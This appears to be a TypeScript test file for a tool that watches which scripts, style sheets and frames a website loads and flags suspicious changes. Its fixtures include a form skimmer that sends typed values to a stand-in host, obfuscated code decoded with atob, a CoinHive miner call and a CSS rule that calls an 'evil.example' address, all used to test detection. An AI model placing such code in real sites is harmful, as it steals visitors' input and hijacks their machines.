/** What comes from an address the page knows: deploys exchange it every day, and so do intruders. */
import { describe, expect, it } from 'vitest';
import { requestFacts } from '../../../src/checks/page/contents.js';
import { type PageEvidence, pageEvidence } from '../../../src/checks/page/evidence.js';
import { combine } from '../../../src/checks/page/volatility.js';
import type { Content } from '../../../src/core/model.js';
import { lookAt, reading, settingsFor, URL_OF_SITE, worstOf } from './looks.js';

type Loads = readonly (readonly [url: string, code: string | null, type?: string])[];

function looking(loads: Loads): PageEvidence {
  const requests = loads.map(([path, code, type = 'script']) => {
    const url = new URL(path, URL_OF_SITE).href;
    const body = code === null ? {} : { body: Buffer.from(code) };
    return requestFacts({ url, type, status: 200, address: '127.0.0.1', ...body });
  });
  return lookAt({ view: { requests } });
}

const LIBRARY = 'export function open(menu){menu.classList.toggle("open");fetch("/api/state")}';
const SKIMMER = `${LIBRARY};document.addEventListener("change",e=>new Image().src="https://metrics-cdn.example/c?"+e.target.value)`;
const PACKED = `${LIBRARY};new Function(atob("YWxlcnQoMSk="))()`;
const DEPLOY = `${LIBRARY};export function close(menu){menu.hidden=true} // see https://github.com/site/menu`;
const TAGS = 'https://tags.example/gtm.js';

function verdictOf(before: Loads | readonly Loads[], now: Loads, content: Content): { worst: string; codes: string[] } {
  const samples = (typeof before[0]?.[0] === 'string' ? [before as Loads] : (before as readonly Loads[])).map(looking);
  const [first, ...rest] = samples;
  if (!first) throw new Error('a sample is needed');
  const { findings } = reading(looking(now), combine([first, ...rest]), settingsFor(content));
  return { worst: worstOf(findings), codes: findings.map(({ code }) => code) };
}

describe.each<readonly [what: string, before: Loads | readonly Loads[], now: Loads, living: string, frozen: string]>([
  ['nothing', [['/app.js', LIBRARY]], [['/app.js', LIBRARY]], 'none', 'none'],
  ['an ordinary deploy', [['/app.js', LIBRARY]], [['/app.js', DEPLOY]], 'notice', 'warning'],
  ['a deploy with a build hash', [['/app.3fa9b2c1.js', LIBRARY]], [['/app.77aa10ce.js', DEPLOY]], 'notice', 'warning'],
  ['a skimmer in an own script', [['/app.js', LIBRARY]], [['/app.js', SKIMMER]], 'warning', 'critical'],
  ['packed code in an own script', [['/app.js', LIBRARY]], [['/app.js', PACKED]], 'warning', 'critical'],
  ['packed code behind a cache-buster', [['/app.js', LIBRARY]], [['/app.js?v=2', PACKED]], 'notice', 'warning'],
  [
    'a skimmer that packs, behind a cache-buster',
    [['/app.js', LIBRARY]],
    [['/app.js?v=2', SKIMMER + PACKED]],
    'warning',
    'critical',
  ],
  [
    'a library at a CDN that turned',
    [['https://cdn.example/p.js', LIBRARY]],
    [['https://cdn.example/p.js', SKIMMER + PACKED]],
    'warning',
    'critical',
  ],
  ['tags that move', [[[TAGS, LIBRARY]], [[TAGS, DEPLOY]]], [[TAGS, SKIMMER + PACKED]], 'none', 'none'],
  [
    'tags that begin to mine',
    [[[TAGS, LIBRARY]], [[TAGS, DEPLOY]]],
    [[TAGS, `${LIBRARY};new CoinHive.User("k")`]],
    'warning',
    'critical',
  ],
  [
    'a style sheet',
    [['/site.css', 'a{color:red}', 'stylesheet']],
    [['/site.css', 'a{color:blue}', 'stylesheet']],
    'notice',
    'warning',
  ],
  [
    'a style sheet that calls abroad',
    [['/site.css', 'a{color:red}', 'stylesheet']],
    [['/site.css', 'a{background:url(https://evil.example/x)}', 'stylesheet']],
    'warning',
    'critical',
  ],
  [
    'a frame but for its nonce',
    [['/f', '<p nonce="aaaaaaaa1">live</p>', 'document']],
    [['/f', '<p nonce="bbbbbbbb2">live</p>', 'document']],
    'none',
    'none',
  ],
  [
    'what stands in a frame',
    [['/f', '<p>live</p>', 'document']],
    [['/f', '<p>over</p>', 'document']],
    'notice',
    'warning',
  ],
  ['a script that cannot be kept', [['/app.js', LIBRARY]], [['/app.js', null]], 'notice', 'warning'],
  ['a script nobody ever could keep', [['/app.js', null]], [['/app.js', SKIMMER]], 'none', 'none'],
])('where what comes differs by %s', (_, before, now, living, frozen) => {
  it.each([['living', living] as const, ['frozen', frozen] as const])('a %s page', (content, expected) => {
    const { worst, codes } = verdictOf(before, now, content);
    expect(worst, codes.join(' ')).toBe(expected);
  });
});

it('hostile code is told with what is new in it', () => {
  const { findings } = reading(looking([['/app.js', SKIMMER]]), looking([['/app.js', LIBRARY]]));
  expect(findings[0]?.summary).toContain('app.js');
  expect(findings[0]?.summary).toContain('metrics-cdn.example');
});

it('any accepted version will do', () => {
  const accepted = [looking([['/app.js', LIBRARY]]), looking([['/app.js', DEPLOY]])];
  expect(reading(looking([['/app.js', DEPLOY]]), accepted, settingsFor('frozen')).findings).toEqual([]);
});

it('evidence with bodies, and evidence from before there were any, are read', () => {
  expect(pageEvidence.safeParse(looking([['/app.js', SKIMMER]])).success).toBe(true);
  expect(reading(looking([['/app.js', SKIMMER]]), lookAt(), settingsFor('frozen')).findings).toEqual([]);
});

it('four megabytes made to be slow are read at once', () => {
  const hostile = ['document ', '//a.', 'location ', '"cvv', 'unescape  ', '//-a', 'document.cookie,'];
  for (const piece of hostile) {
    const body = Buffer.from(piece.repeat(Math.floor((4 * 1024 * 1024) / piece.length)));
    // A pattern that goes back and forth would need hours, and the test its timeout.
    const { body: facts } = requestFacts({
      url: `${URL_OF_SITE}a.js`,
      type: 'script',
      status: 200,
      address: null,
      body,
    });
    expect(facts?.bytes).toBe(body.byteLength);
  }
});
